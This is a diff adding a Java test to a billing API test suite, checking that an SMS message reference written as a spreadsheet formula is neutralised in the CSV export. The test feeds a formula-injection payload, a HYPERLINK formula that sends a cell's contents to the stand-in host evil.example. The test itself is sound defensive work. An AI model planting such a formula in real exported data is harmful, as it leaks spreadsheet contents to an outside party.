@@ -87,6 +87,23 @@ class BillingApiTest extends BillingDatabaseTest {
     }
 
     @Test
+    void an_smsc_reference_that_a_spreadsheet_would_run_is_neutralised_in_the_csv_export() throws Exception {
+        // the SMS-C chooses its message ids: one that reads as a formula must not run in the billing team's spreadsheet
+        String formula = "=HYPERLINK(\"http://evil.example/\"&A1,\"invoice\")";
+        ChargingEvent e = new Traffic(node + "-x", 1, msisdn, "VODAFONE_UK").sentSms(DAY.plusSeconds(300), 1);
+        rating.rate(List.of(ChargingEvent.builder().eventId(e.eventId()).eventTime(e.eventTime()).origin(e.nodeId(), e.sequence())
+                .kind(e.kind()).channel(e.channel()).charged(e.chargedMsisdn(), e.chargedRole()).messageId(e.messageId())
+                .sms(formula, 1).build()));
+
+        String csv = get("/api/v1/billing/records?msisdn=" + enc(msisdn) + "&period=2031-03", "text/csv").body();
+        String row = csv.lines().filter(l -> l.startsWith(e.eventId().toString())).findFirst().orElseThrow();
+        assertThat(row).contains(",\"'=HYPERLINK(\"\"http://evil.example/\"\"&A1,\"\"invoice\"\")\",")
+                .doesNotContain(",=HYPERLINK")
+                // the subscriber's number and the amount are written as they are
+                .contains("," + msisdn + ",").contains(",0.12,");
+    }
+
+    @Test
     void the_bill_of_a_period() throws Exception {
         JsonNode bill = EventJson.mapper().readTree(get("/api/v1/billing/bills/" + enc(msisdn) + "?period=2031-03",
                 "application/json").body());
